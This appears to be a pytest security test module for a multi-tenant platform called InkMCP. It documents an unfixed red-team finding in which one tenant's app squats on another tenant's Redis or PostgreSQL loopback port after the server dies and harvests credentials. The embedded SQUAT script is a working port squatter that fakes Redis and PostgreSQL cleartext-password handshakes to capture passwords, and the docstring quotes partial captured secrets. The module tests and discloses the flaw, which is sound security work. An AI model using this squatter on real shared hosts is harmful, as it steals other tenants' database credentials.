"""Red team redteam2 (2026-12-02): the loopback ports of a project's Redis and of the tenant PostgreSQL are squattable.

Same attack as test_redteam2_port_squat (fixed there for apps' ports), on the ports tenants' apps connect to with
their credentials: mallory's app spins on bind(127.0.0.1:<port>) with SO_REUSEADDR (every listener and its port is
in /proc/net/tcp). When alice's Redis instance or the tenant PostgreSQL server dies (a crash, an OOM kill; simulated
here by SIGKILL to that one process, found by the port it listens on), the kernel frees the port and mallory binds
it before InkMCP restarts the server on the same port (REDIS_URL and DATABASE_URL must not change). alice's app
then hands its credentials to mallory: Redis sends `AUTH <user> <password>` in clear, and libpq answers a
cleartext-password request with the password (DATABASE_URL sets no `require_auth`). The restart then fails on the
taken port, so mallory keeps it.

Found by redteam2 and NOT fixed: the fix belongs to the Redis and PostgreSQL providers (another helper's files).
Before (attacker-side proof, this module's attack by hand on a real root server): mallory's squatter captured
`*3 AUTH ink_7f4f... I0uhXEyz...` (alice's REDIS_URL password) and `p ... tmKs1qsr...` (alice's DATABASE_URL
password, after sending AuthenticationCleartextPassword); no redis-server ran for alice afterwards. Direction: a
socket InkMCP holds for the server's whole life in front of each one (as nginx's port and portguard do for apps),
e.g. InkMCP listening on the public port and splicing to the server's unix socket, so a dying server never frees
the port; for PostgreSQL also `require_auth=scram-sha-256` in DATABASE_URL (libpq 16+), so a fake server gets no
password. Both tests are strict xfails: they start passing when that lands.
"""

from __future__ import annotations

import os
import signal
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import psutil
import pytest

from tests.security.conftest import (
    ROOT,
    SHARED_ENV,
    lab_exec,
    lab_live,
    lab_repo,
    security_server,
    session,
)
from tests.support import ServerProc, call

pytestmark = [pytest.mark.asyncio, pytest.mark.slow, ROOT]

ALICE = "rt2-svc-alice"
MALLORY = "rt2-svc-mallory"

# Inside mallory's app: bind the port the moment it is free; answer as a Redis (+OK) or as a PostgreSQL server
# asking for a cleartext password, and keep what the client sent.
SQUAT = r'''
import socket, struct, threading, time

port, kind = ARGS["port"], ARGS["kind"]


def serve(c):
    if kind == "redis":
        STATE.setdefault("captured", []).append(c.recv(4096).decode(errors="replace"))
        c.sendall(b"+OK\r\n")
        return
    n = struct.unpack("!I", c.recv(4))[0]
    body = c.recv(n - 4)
    if body[:4] == b"\x04\xd2\x16\x2f":  # SSLRequest: no
        c.sendall(b"N")
        n = struct.unpack("!I", c.recv(4))[0]
        c.recv(n - 4)
    c.sendall(b"R" + struct.pack("!II", 8, 3))  # AuthenticationCleartextPassword
    STATE.setdefault("captured", []).append(c.recv(4096).decode(errors="replace"))


def squat():
    while not STATE.get("stop"):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            s.bind(("127.0.0.1", port))
            s.listen(16)
        except OSError:
            s.close()
            time.sleep(0.0005)
            continue
        STATE["bound"] = time.time()
        s.settimeout(0.2)
        while not STATE.get("stop"):
            try:
                c, _ = s.accept()
            except socket.timeout:
                continue
            c.settimeout(3)
            try:
                serve(c)
            except Exception as e:
                STATE.setdefault("errors", []).append(repr(e))
            c.close()
        s.close()


for key in ("stop", "bound", "captured", "errors"):
    STATE.pop(key, None)
threading.Thread(target=squat, daemon=True).start()
result = "armed"
'''

REPORT = r'''
STATE["stop"] = True
result = {"bound": STATE.get("bound"), "captured": STATE.get("captured", []), "errors": STATE.get("errors", [])}
'''

# Inside alice's app: what her code does with its URL (a Redis AUTH, psql with DATABASE_URL), retried while the
# server is down.
CLIENT = r'''
import socket, subprocess, time, urllib.parse

u = urllib.parse.urlsplit(ARGS["service_url"])
out = []
for _ in range(20):
    try:
        if ARGS["kind"] == "redis":
            s = socket.create_connection((u.hostname, u.port), timeout=2)
            s.sendall(f"*3\r\n$4\r\nAUTH\r\n${len(u.username)}\r\n{u.username}\r\n${len(u.password)}\r\n"
                      f"{u.password}\r\n".encode())
            out.append(s.recv(100).decode(errors="replace"))
            s.close()
            break
        p = subprocess.run(["psql", ARGS["service_url"], "-c", "select 1"], capture_output=True, text=True, timeout=10)
        out.append([p.returncode, p.stderr[-200:]])
        if p.returncode == 0 or "closed the connection" in p.stderr or "password" in p.stderr:
            break
    except OSError as e:
        out.append(repr(e))
    time.sleep(0.3)
result = out
'''


@pytest.fixture(scope="module")
def own_server() -> Iterator[ServerProc]:
    """A server of this module's own: its tenant PostgreSQL server is killed here (the package's is shared)."""
    with security_server("rt2-svc-", ("alice", "mallory"), **SHARED_ENV) as srv:
        yield srv


@pytest.fixture(scope="module")
async def world(own_server: ServerProc, repos: Path) -> dict[str, Any]:
    async with session(own_server, "alice") as a:
        web = await lab_live(a, lab_repo(repos, "rt2-svc-alice"), "svclab", project_name=ALICE,
                             database={"type": "postgres"})
        await call(a, "provision_database", project_name=ALICE, type="redis")
        creds = await call(a, "get_database_credentials", project_name=ALICE)
    async with session(own_server, "mallory") as m:
        lab = await lab_live(m, lab_repo(repos, "rt2-svc-mallory"), "mallory", project_name=MALLORY)
    urls = [v for v in _strings(creds) if v.startswith(("redis://", "postgresql://", "postgres://"))]
    return {"alice": web, "mallory": lab, "redis": next(u for u in urls if u.startswith("redis://")),
            "postgres": next(u for u in urls if u.startswith("postgres"))}


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def _listener_pid(port: int) -> int:
    """The process listening on 127.0.0.1:`port` (the server this test's InkMCP started)."""
    for conn in psutil.net_connections("tcp4"):
        if conn.status == psutil.CONN_LISTEN and conn.laddr.port == port and conn.pid:
            return conn.pid
    raise AssertionError(f"nothing listens on {port}")


async def _attack(srv: ServerProc, world: dict[str, Any], kind: str) -> dict[str, Any]:
    url = world[kind]
    port = urlsplit(url).port
    assert port is not None
    lab_exec(srv, world["mallory"]["url"], SQUAT, port=port, kind=kind)
    victim = _listener_pid(port)
    os.kill(victim, signal.SIGKILL)  # alice's Redis / the tenant PostgreSQL dies, as in a crash or an OOM kill
    time.sleep(0.5)
    said = lab_exec(srv, world["alice"]["url"], CLIENT, service_url=url, kind=kind)
    report = lab_exec(srv, world["mallory"]["url"], REPORT)  # stops the squatter: InkMCP may restart the server
    password = urlsplit(url).password
    assert password
    return {"said": said, "report": report, "leaked": [c for c in report["captured"] if password in c]}


@pytest.mark.xfail(strict=True, reason="redteam2: a dead Redis instance's port is free for another tenant to bind")
async def test_a_dead_redis_instances_port_never_gets_alices_password(own_server: ServerProc,
                                                                      world: dict[str, Any]) -> None:
    got = await _attack(own_server, world, "redis")
    assert not got["leaked"], f"mallory captured alice's REDIS_URL password: {got}"


@pytest.mark.xfail(strict=True, reason="redteam2: a dead tenant PostgreSQL server's port is free for another tenant")
async def test_a_dead_tenant_postgres_port_never_gets_alices_password(own_server: ServerProc,
                                                                      world: dict[str, Any]) -> None:
    got = await _attack(own_server, world, "postgres")
    assert not got["leaked"], f"mallory captured alice's DATABASE_URL password: {got}"
